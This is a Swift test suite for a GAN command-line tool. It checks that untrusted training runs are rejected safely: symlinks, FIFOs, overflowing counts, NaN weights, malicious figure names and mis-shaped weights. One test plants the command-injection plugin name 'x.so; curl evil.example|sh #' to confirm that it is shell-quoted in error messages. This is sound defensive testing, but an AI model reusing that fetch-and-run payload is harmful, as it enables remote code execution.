import Foundation
import GANMetrics
import GANModule
import GANRun
import GANTestSupport
import Testing

@testable import GANZooCLI

/// Runs that come from a stranger, opened by every command that takes one.
@Suite struct HostileRunTests {
    private let place: ScoringPlace
    private let run: String

    /// A run of one step.
    init() throws {
        place = try ScoringPlace()
        run = place.path("run")
        try TrainedRun.copy(
            of: Recipes.tiny,
            ["train.kimg=0.008", "data.per_class=12", "data.long_tail=null", "evaluate.features=fmnist"], to: run)
        try FileManager.default.createDirectory(atPath: place.path("mine"), withIntermediateDirectories: false)
    }

    private func changeState(_ change: (String) -> String) throws {
        try StateFile.change("\(run)/checkpoints/000001/state.json", change)
    }

    private func link(_ name: String, to target: String) throws {
        try? FileManager.default.removeItem(atPath: "\(run)/\(name)")
        try FileManager.default.createSymbolicLink(atPath: "\(run)/\(name)", withDestinationPath: target)
    }

    // MARK: Links

    /// Every command that opens a run, with what it needs.
    @Test(arguments: [
        ["generate", "sheet", "--run", "RUN"], ["generate", "images", "--run", "RUN", "--per-class", "1"],
        ["nearest", "--run", "RUN"], ["evaluate", "--run", "RUN", "--samples", "8"], ["export", "--run", "RUN"],
        ["compare", "RUN", "RUN"], ["compare", "--paired", "RUN", "RUN"], ["plot", "--run", "RUN"],
        ["report", "--run", "RUN"], ["report", "--run", "RUN", "--compare", "RUN"],
        ["train", "TINY", "transfer.from=RUN", "train.kimg=0.008", "--run", "NEW"],
    ]) func noCommandFollowsALink(_ words: [String]) throws {
        let arguments = words.map {
            $0.replacing("RUN", with: run).replacing("TINY", with: Recipes.tiny)
                .replacing("NEW", with: place.path("new"))
        }
        try link("evaluation", to: "../mine")
        let program = try place.ganzoo(arguments)
        #expect(program.status != 0)
        #expect(
            program.errors.contains(
                "\(run)/evaluation: it is a symbolic link; links below a run's folder are not followed, because they could point to any"
                    + " file\n  fix: replace it by its target (the whole folder of a run may be a link), or choose another"
                    + " folder"), "\(program.errors)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: place.path("mine")).isEmpty)
    }

    @Test func picturesDoNotLeaveTheRun() throws {
        try link("generated", to: "../mine")
        let program = try place.ganzoo("generate", "sheet", "--run", run)
        #expect(program.status == 1)
        #expect(program.errors.hasPrefix("ganzoo: \(run)/generated: it is a symbolic link; "))
        #expect(try FileManager.default.contentsOfDirectory(atPath: place.path("mine")).isEmpty)
    }

    /// Names of reports are known before they are written.
    @Test func aReportReplacesALinkInItsPlace() throws {
        try FileManager.default.createDirectory(atPath: "\(run)/evaluation", withIntermediateDirectories: false)
        try place.write("mine/thesis.txt", "mine")
        try link("evaluation/000001-fmnist.json", to: "../../mine/thesis.txt")
        let program = try place.ganzoo("evaluate", "--run", run, "--metrics", "fid", "--samples", "24")
        #expect(program.status == 0, "\(program.errors)")
        #expect(try String(contentsOfFile: place.path("mine/thesis.txt"), encoding: .utf8) == "mine")
        #expect(try EvaluationFile.read("\(run)/evaluation/000001-fmnist.json").measuredBy.samples.count == 24)
    }

    @Test func aRunBehindALinkIsOpened() throws {
        try FileManager.default.createSymbolicLink(atPath: place.path("link"), withDestinationPath: "run")
        let program = try place.ganzoo(
            "generate", "sheet", "--run", place.path("link"), "--seeds", "0", "--classes", "0")
        #expect(program.status == 0, "\(program.errors)")
        #expect(FileManager.default.fileExists(atPath: "\(run)/generated/sheet.png"))
    }

    /// It would be waited for.
    @Test func aRecipeThatIsAFIFOIsRefused() throws {
        try FileManager.default.removeItem(atPath: "\(run)/resolved.yaml")
        #expect(mkfifo("\(run)/resolved.yaml", 0o600) == 0)
        for command in ["generate", "evaluate", "nearest", "export"] {
            let program = try place.ganzoo(command, "--run", run)
            #expect(program.status == 1)
            #expect(
                program.errors.hasPrefix(
                    "ganzoo: \(run)/resolved.yaml: it is a FIFO, but a regular file was expected"))
        }
    }

    // MARK: Numbers

    @Test(arguments: ["9223372036854775807", "-5"]) func aStepThatNoRunReachesIsRefused(_ step: String) throws {
        try changeState { $0.replacing("\"step\":1", with: "\"step\":\(step)") }
        let program = try place.ganzoo("generate", "sheet", "--run", run)
        #expect(program.status == 1)
        #expect(
            program.errors == """
                ganzoo: \(run)/checkpoints: the run has no valid checkpoint
                  \(run)/checkpoints/000001 is skipped: state.json has an invalid value: `position.step` is \(step), \
                which is not in 0 ... 9007199254740992

                """)
    }

    /// Its names, types and shapes are compared first: a value may be a terabyte that is not there.
    @Test func weightsOfOtherShapesAreRefusedBeforeTheyAreRead() throws {
        let checkpoint = "\(run)/checkpoints/000001"
        let weights = try SafetensorsFile(path: "\(checkpoint)/weights.safetensors")
        let entry = try #require(weights.entries.first { $0.name.hasPrefix("generator_ema.") && $0.type == .float32 })
        let count = entry.elementCount + 1
        try StateFile.changeWeights(
            checkpoint, entry.name, shape: [count], bytes: [UInt8](repeating: 0, count: 4 * count))
        // Whoever reads the value finds a wrong checksum.
        try changeState {
            $0.replacing(try! Regex("\"\(NSRegularExpression.escapedPattern(for: entry.name))\":[0-9]+")) { _ in
                "\"\(entry.name)\":1"
            }
        }
        for command in [["generate", "sheet"], ["evaluate", "--samples", "8"]] {
            let program = try place.ganzoo(command + ["--run", run])
            #expect(program.status == 1)
            #expect(
                program.errors.contains(
                    "  different (1):\n    \(entry.name): F32 [\(count)] in the file, F32 \(entry.shape) in the network\n"
                ),
                "\(program.errors)")
        }
    }

    // MARK: Figures

    private func plot(_ lines: [String]) throws -> Program {
        try place.write("run/metrics.jsonl", lines.map { $0 + "\n" }.joined())
        return try place.ganzoo("plot", "--run", run)
    }

    /// These ended the process, or wrote a picture wherever they said.
    @Test(arguments: [
        (["{\"kimg\": 1e300, \"loss.a\": 1}"], "`kimg` is not ascending in 0 ... 9007199254740992"),
        (
            ["{\"kimg\": 0, \"loss.a\": 1}", "{\"kimg\": 5, \"loss.a\": 1}", "{\"kimg\": 1, \"loss.a\": 1}"],
            "`kimg` is not ascending in 0 ... 9007199254740992"
        ),
        (["{\"kimg\": 1, \"/tmp/x/loss.a\": 1}"], "`/tmp/x/loss.a` is not the name of a figure"),
        (["{\"kimg\": 1, \"a/b\": 1}"], "`a/b` is not the name of a figure"),
        (["{\"kimg\": 1, \"\\u001b[2J.a\": 1}"], "`\\u{1B}[2J.a` is not the name of a figure"),
        (
            ["{\"kimg\": 1, " + (0..<2001).map { "\"a.p\($0).v\": 1" }.joined(separator: ", ") + "}"],
            "it has more than 2,000 figures"
        ),
    ]) func figuresThatNoRunHasAreRefused(_ lines: [String], _ problem: String) throws {
        let program = try plot(lines)
        #expect(program.status == 1)
        #expect(program.errors == "ganzoo: \(run)/metrics.jsonl: \(problem)\n  fix: restore it from a copy\n")
        #expect(!FileManager.default.fileExists(atPath: "\(run)/generated"))
    }

    @Test func figuresOfAnySizeAreDrawn() throws {
        let values = ["1e308", "-1e308", "1e-320", "0", "null", "9007199254740993"]
        let lines = values.enumerated().map {
            "{\"kimg\": \($0.offset), \"loss.a\": \($0.element), \"loss.b.T-shirt/top\": \($0.element), \"c\": \($0.element)}"
        }
        let program = try plot(lines)
        #expect(program.status == 0, "\(program.errors)")
        #expect(
            try FileManager.default.contentsOfDirectory(atPath: "\(run)/generated").sorted() == [
                "plot-c.png", "plot-loss-2.png", "plot-loss.png",
            ])
    }

    /// Images of it would be black.
    @Test func weightsThatAreNoNumbersAreRefused() throws {
        let checkpoint = "\(run)/checkpoints/000001"
        let weights = try SafetensorsFile(path: "\(checkpoint)/weights.safetensors")
        let entry = try #require(weights.entries.first { $0.name.hasPrefix("generator_ema.") && $0.type == .float32 })
        let number = withUnsafeBytes(of: Float.nan.bitPattern.littleEndian) { Array($0) }
        let bytes = try number + weights.bytes(of: entry.name).dropFirst(4)
        try StateFile.changeWeights(checkpoint, entry.name, shape: entry.shape, bytes: bytes)
        for command in [["generate", "sheet"], ["evaluate", "--samples", "8"]] {
            let program = try place.ganzoo(command + ["--run", run])
            #expect(program.status == 1)
            #expect(
                program.errors == """
                    ganzoo: \(run)/checkpoints: the run has no valid checkpoint
                      \(checkpoint) is skipped: weights.safetensors: `\(entry.name)` holds nan, which is not a finite number

                    """)
        }
    }

    @Test(arguments: [
        (
            "\"class_counts\" : [\n      12,", "\"class_counts\" : [\n      9223372036854775807,",
            "data.class_counts`: their sum"
        ),
        (
            "\"count\" : 120", "\"count\" : 9223372036854775807",
            "data.count`: 9223372036854775807 is not in 0 ... 9007199254740992"
        ),
    ]) func countsThatOverflowAreRefused(_ old: String, _ new: String, _ problem: String) throws {
        let text = try String(contentsOfFile: "\(run)/run.json", encoding: .utf8)
        try #require(text.contains(old))
        try text.replacing(old, with: new).write(toFile: "\(run)/run.json", atomically: true, encoding: .utf8)
        let program = try place.ganzoo("generate", "sheet", "--run", run)
        #expect(program.status == 1)
        #expect(program.errors.hasPrefix("ganzoo: \(run)/run.json: `\(problem)"), "\(program.errors)")
    }

    @Test(arguments: [
        (
            "\"training_images\" : 12", "\"training_images\" : -9223372036854775808",
            "`class_scores.rows` is -9223372036854775808"
        ),
        ("\"step\" : 1", "\"step\" : -1", "`protocol.samples.step` is -1, which is not in 0 ... 9007199254740992"),
        ("\"fd_fmnist\" :", "\"\\u001b[2J\" :", "`\\u{1B}[2J` is not the name of a score"),
    ]) func aReportThatNoEvaluationWritesIsRefused(_ old: String, _ new: String, _ problem: String) throws {
        let path = place.path("a.json")
        let scored = try place.ganzoo(
            "evaluate", "--run", run, "--metrics", "fid", "intra_fid", "--samples", "24", "--samples-per-class", "3",
            "--out", path)
        try #require(scored.status == 0, "\(scored.errors)")
        let text = try String(contentsOfFile: path, encoding: .utf8)
        try #require(text.contains(old))
        try place.write("b.json", text.replacing(old, with: new))
        let compared = try place.ganzoo("compare", path, place.path("b.json"))
        #expect(compared.status == 1)
        #expect(
            compared.errors.hasPrefix(
                "ganzoo: \(place.path("b.json")) is not a report written by `ganzoo evaluate`: \(problem)"),
            "\(compared.errors)")
    }

    /// Words of a stranger that are offered to be pasted into a shell.
    @Test func pluginsAreNamedAsAShellReadsThem() throws {
        let text = try String(contentsOfFile: "\(run)/run.json", encoding: .utf8)
        try text.replacing(/"plugins" : \[[^\]]*\]/, with: "\"plugins\" : [\"x.so; curl evil.example|sh #\"]").write(
            toFile: "\(run)/run.json", atomically: true, encoding: .utf8)
        let recipe = try String(contentsOfFile: "\(run)/resolved.yaml", encoding: .utf8)
        try recipe.replacing("noisy_embedding", with: "theirs").write(
            toFile: "\(run)/resolved.yaml", atomically: true, encoding: .utf8)
        let program = try place.ganzoo("generate", "sheet", "--run", run)
        #expect(
            program.errors.hasSuffix(
                "  fix: load the plugins of its training: --plugin 'x.so; curl evil.example|sh #'\n"),
            "\(program.errors)")
    }

    // MARK: Arithmetic

    private static let another =
        "was trained by an earlier version of this program, which computes differently (Adam in lazy phases, "

    @Test func imagesOfAnotherArithmeticAreMadeWithAWarning() throws {
        let now = try place.ganzoo("generate", "sheet", "--run", run, "--seeds", "0", "--classes", "0")
        #expect(now.status == 0 && !now.output.contains("version"))
        try changeState(StateFile.withoutArithmetic)
        let old = try place.ganzoo("generate", "sheet", "--run", run, "--seeds", "0", "--classes", "0")
        #expect(old.status == 0, "\(old.errors)")
        #expect(old.output.contains("\nwarning: \(run)/checkpoints/000001 \(Self.another)"))
        #expect(
            old.output.contains(
                "): images and scores can differ from the original ones; use that version to reproduce them\n"))
    }

    @Test func reportsNameTheArithmetic() throws {
        let arguments = ["evaluate", "--run", run, "--metrics", "fid", "--samples", "24"]
        let now = try place.ganzoo(arguments)
        #expect(now.status == 0, "\(now.errors)")
        let own = try EvaluationFile.read("\(run)/evaluation/000001-fmnist.json")
        #expect(own.measuredBy.samples.arithmetic == 6)
        #expect(!own.caveats.contains { $0.contains("version") })
        try changeState(StateFile.withoutArithmetic)
        let old = try place.ganzoo(arguments)
        #expect(old.output.contains("\nnote: \(run)/checkpoints/000001 \(Self.another)"), "\(old.output)")
        let other = try EvaluationFile.read("\(run)/evaluation/000001-fmnist-2.json")
        #expect(other.measuredBy.samples.arithmetic == 1)
        #expect(other.caveats.contains { $0.contains(Self.another) })
        let compared = try place.ganzoo(
            "compare", "\(run)/evaluation/000001-fmnist.json", "\(run)/evaluation/000001-fmnist-2.json")
        #expect(
            compared.output.hasPrefix(
                "warning: the runs were not measured alike; different: version of the program that trained\n"))
    }

    /// Weights are worth having whatever made them.
    @Test func weightsOfAnotherArithmeticAreTransferredWithAWarning() throws {
        try changeState(StateFile.withoutArithmetic)
        let program = try place.ganzoo(
            "train", "\(run)/resolved.yaml", "transfer.from=\(run)", "--run", place.path("new"))
        #expect(program.status == 0, "\(program.errors)")
        #expect(program.output.contains("warning: \(run)/checkpoints/000001 \(Self.another)"), "\(program.output)")
    }
}
